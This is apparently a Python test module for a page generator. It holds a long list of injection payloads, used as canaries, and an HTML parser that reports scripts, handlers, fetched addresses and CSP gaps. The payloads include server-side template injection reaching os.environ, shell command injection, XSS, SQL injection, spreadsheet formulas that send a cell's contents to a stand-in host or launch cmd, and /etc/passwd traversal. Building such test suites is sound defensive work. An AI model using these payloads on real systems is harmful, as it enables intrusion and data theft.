"""Texts that try to become code, and a reader of pages that sees what a browser would load and run."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from html.parser import HTMLParser
from typing import Any

#: 1234 * 1000 shows as 1234000 where a template or a script ran it.
RAN = "1234000"
#: What a payload that runs sets: a variable of the server's environment, or ``window.PWN`` in the browser.
CANARY = "SITMAP_PWN"
#: A host that nobody has asked for anything.
TRAP = "http://trap.example"
PAYLOADS = (
    "{{1234*1000}}",
    "{% for x in range(3) %}1234000{% endfor %}",
    "{# a comment #}",
    "${1234*1000}",
    "`+1234*1000+`",
    "#{1234*1000}",
    "</script><script>document.title=1234*1000</script>",
    "<img src=x onerror=alert(1)>",
    "<!--<script>",
    '"><svg onload=alert(1)>',
    "'+1234*1000+'",
    "\\u003cscript\\u003e",
    "a\u2028alert(1)\u2029b",
    "\u202egnp.exe\u202c",
    "]]>&lt;b&gt;",
    "nul\x00 bell\x07",
    # run on the server
    f"{{{{ cycler.__init__.__globals__.os.environ.setdefault('{CANARY}', 'jinja') }}}}",
    f"{{% set x = cycler.__init__.__globals__.os.putenv('{CANARY}', '1') %}}",
    f"{{{{ ''.__class__.__mro__[1] }}}}{{{{ lipsum.__globals__['os'].environ.update({CANARY}='1') }}}}",
    "{% raw %}{{ 7 }}{% endraw %} {%- endmacro -%}",
    "{# open comment",
    "{{ open",
    "{0.__class__.__init__.__globals__} {x!r:>{y}} %(x)s %n",
    f"__import__('os').environ.setdefault('{CANARY}', 'eval')",
    f"$(touch /tmp/{CANARY}) `touch /tmp/{CANARY}` ; touch /tmp/{CANARY} | id",
    # run in the browser
    "${window.PWN=1}",
    "`);window.PWN=2;//",
    "');window.PWN=3;//",
    '");window.PWN=4;//',
    "</script><script>window.PWN=5</script>",
    "<img src=x onerror=window.PWN=6>",
    "<svg/onload=window.PWN=7>",
    "<details open ontoggle=window.PWN=8>x</details>",
    f"<iframe srcdoc='<script>parent.PWN=9</script>' src={TRAP}/9></iframe>",
    "<a href=javascript:window.PWN=10>x</a>",
    "[x](javascript:window.PWN=11) <javascript:window.PWN=11>",
    "</textarea></title></style><script>window.PWN=12</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.PWN=13&gt;'>",
    "&lt;img src=x onerror=window.PWN=14&gt;",
    "%3Cscript%3Ewindow.PWN=15%3C/script%3E",
    "$\\href{javascript:window.PWN=16}{x}$ $$\\frac{1}{$",
    "'\"><body onload=window.PWN=17 style='position:fixed'>",
    "constructor.constructor('window.PWN=18')() {{constructor.constructor('window.PWN=18')()}}",
    "data:text/html,<script>window.PWN=19</script>",
    # ask a host for something
    f"![x]({TRAP}/20.png) <img src={TRAP}/20b.png srcset={TRAP}/20c.png>",
    f"<style>@import '{TRAP}/21.css'; body{{background:url({TRAP}/21.png)}}</style>",
    f"<link rel=stylesheet href={TRAP}/22.css><base href={TRAP}/>",
    f"<meta http-equiv=refresh content='0;url={TRAP}/23'>",
    f"<form action={TRAP}/24><input name=x autofocus onfocus=this.form.submit()></form>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{TRAP}/25'>]><x>&y;</x>",
    f"<video autoplay poster={TRAP}/26.png><source src={TRAP}/26></video><object data={TRAP}/26b></object>",
    ":red[x] :material/alarm: :rocket: **b** _i_ # h\n- l\n\n| a | b |\n|---|---|",
    # be a formula
    f'=HYPERLINK("{TRAP}/30?"&A1,"x")',
    "+1+cmd|' /C calc'!A1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " \u00a0=1+1",
    # be a query
    "'; DROP TABLE articles; --",
    '" OR 1=1 --',
    '" OR * NEAR(a b) AND col:x ^a NOT "',
    "%_\\%",
    # steer a terminal or a reader's eye
    f"\x1b[31mred\x1b]8;;{TRAP}/40\x07link\x1b]8;;\x07\x1b[2J",
    "\x9b31m\x9d0;title\x9c",
    "back\x08\x08\x7f\x0cspace",
    "\u2066left\u2069\u200bzero\u200d\ufeffwidth\u00ad",
    "\r\nSet-Cookie: a=b\r\n\r\nerror: forged line",
    # be a path, or break the text
    "../../../etc/passwd",
    "..\\..\\CON",
    "file:///etc/passwd",
    "tail\\",
    "\\N{BULLET} \\x41 \\u{41}",
    "Zalgo e" + "\u0301" * 60,
    "\U0001f4a3\U000e0041\ufffe\U0010ffff",
)


class Page(HTMLParser):
    """The elements of a page: its scripts, its data, its policy and every address in an attribute."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[tuple[str, str]] = []  # type, content
        self.styles: list[str] = []
        self.addresses: list[str] = []
        self.handlers: list[str] = []
        self.policy = ""
        self.tags: list[str] = []
        self._open = ""
        self.words: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.tags.append(tag)
        self.addresses += [given[name] for name in ("src", "href", "srcset", "action", "data") if name in given]
        self.handlers += [name for name in given if name.startswith("on")]
        if given.get("http-equiv", "").lower() == "content-security-policy":
            self.policy = given["content"]
        if tag == "script":
            self.scripts.append((given.get("type", ""), ""))
        if tag == "style":
            self.styles.append("")
        self._open = tag

    def handle_endtag(self, tag: str) -> None:
        self._open = ""

    def handle_data(self, data: str) -> None:
        if self._open == "script":
            kind, content = self.scripts[-1]
            self.scripts[-1] = (kind, content + data)
        elif self._open == "style":
            self.styles[-1] += data
        else:
            self.words.append(data)

    @property
    def text(self) -> str:
        """What is written outside scripts and styles."""
        return " ".join(" ".join(self.words).split())

    def unlisted_scripts(self) -> list[str]:
        """Scripts that would run but that the policy does not name."""
        running = [content for kind, content in self.scripts if kind != "application/json"]
        hashes = (base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() for s in running)
        return [h for h in hashes if f"'sha256-{h}'" not in self.policy]

    def loads(self) -> list[str]:
        """Addresses that a browser would fetch: attributes, imports and images of style sheets."""
        of_styles = [u for s in self.styles for u in re.findall(r"url\(\s*['\"]?([^'\")]*)|@import[^;]*", s)]
        return [a for a in (*self.addresses, *of_styles) if a and not a.startswith(("data:", "#"))]


def packed_in(page: Page) -> dict[str, Any]:
    """What a page that opens from disk carries, as it is written in it."""
    start = "window.SITMAP_PACKED="
    (script,) = [content for _kind, content in page.scripts if content.startswith(start)]
    found: dict[str, Any] = json.loads(script[len(start) :].rstrip(";"))
    return found
